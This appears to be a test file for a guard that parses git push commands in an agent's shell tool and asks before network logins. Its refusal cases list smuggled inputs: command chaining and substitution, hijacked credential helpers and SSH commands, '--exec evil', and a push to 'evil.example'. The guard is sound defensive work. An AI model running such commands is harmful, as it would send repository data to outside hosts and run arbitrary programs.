import { expect, test } from "vitest";
import type { Effect } from "#effect";
import { pushCommandOf } from "#network/push-command";
import { createConnectionsPolicy } from "#policies/connections";
import { inputWith } from "../policies/effects.ts";

test.each<[string, object]>([
  ["git push", { options: [], remote: undefined, refspecs: [], skipsHook: false, setsUpstream: false }],
  ["git push origin main", { remote: "origin", refspecs: ["main"] }],
  ["git push -u origin HEAD", { remote: "origin", refspecs: ["HEAD"], setsUpstream: true, options: [] }],
  ["git push -uf origin a b", { options: ["-f"], setsUpstream: true, refspecs: ["a", "b"] }],
  ["git push --force-with-lease origin 'a b' 2>&1", { options: ["--force-with-lease"], refspecs: ["a b"] }],
  ["git push -o ci.skip --no-verify origin x", { options: ["--push-option=ci.skip"], skipsHook: true }],
  ["git push git@git.example:me/r.git v1:v1", { remote: "git@git.example:me/r.git", refspecs: ["v1:v1"] }],
])("a push by itself: %s", (text, expected) => {
  expect(pushCommandOf(text)).toMatchObject(expected);
});

test.each([
  ...["git push origin x && evil", "git push origin src/*", 'git push origin "$(git branch --show-current)"'],
  ...["evil; git push", "git add -A && git commit -m x && git push", "cd sub && git push", "git -C sub push"],
  ...["git -c credential.helper=evil push", "git -c core.sshCommand=evil push origin main"],
  ...["GIT_SSH_COMMAND=evil git push", "env GIT_SSH=evil git push", "sudo git push", "bash -c 'git push'"],
  ...["git push | tee log", "git push > log", "git push < in", "git push &", "git push $REMOTE main"],
  ...["git push $(evil) main", "git push origin `evil`", "git push origin {a,b}", "git push origin *"],
  ...["if true; then git push; fi", "git push --repo=https://evil.example/x", "git push --receive-pack=evil origin"],
  ...["git push --exec evil origin", "git push --recurse-submodules=on-demand origin", "git push --signed origin"],
])("is refused with anything around it, and with options that lead it elsewhere: %s", (text) => {
  expect(pushCommandOf(text)).toBeUndefined();
});

test("a login is asked about", () => {
  expect(decided({ type: "net", url: "https://git.example:443", login: "the login of store" })).toBe("ask keys/use");
  const wanted = { host: "git.example", port: 443, program: "git push" };
  const login = "the login of store";
  expect(decided({ type: "net", url: "git.example:443", login, wanted })).toBe("ask keys/use");
  expect(decided({ type: "net", url: "git.example:443", login, wanted: { ...wanted, sends: "push it" } })).toBe(
    "ask keys/use",
  );
  expect(decided({ type: "net", url: "https://git.example:443" })).toBe("allow");
});

function decided(effect: Effect): string {
  const verdict = createConnectionsPolicy().decide(
    inputWith({ toolName: "Bash", analysis: { statement: "", effects: [effect] } }),
    { signal: new AbortController().signal },
  );
  if (verdict instanceof Promise) throw new Error("It answers at once.");
  return verdict.type === "allow" ? "allow" : `${verdict.type} ${verdict.finding.rule}`;
}
